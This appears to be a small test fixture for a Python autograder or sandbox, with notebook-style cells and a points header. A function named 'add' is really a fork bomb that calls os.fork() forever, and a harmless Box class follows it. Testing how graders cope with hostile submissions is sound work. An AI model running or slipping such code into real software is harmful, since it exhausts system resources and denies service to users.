"""Forks without end."""
# points: 4
# %% add
import os


def add(x, y):
    while True:
        os.fork()
# %% Box
class Box:
    def __init__(self, side):
        self.side = side

    def area(self):
        return self.side**2
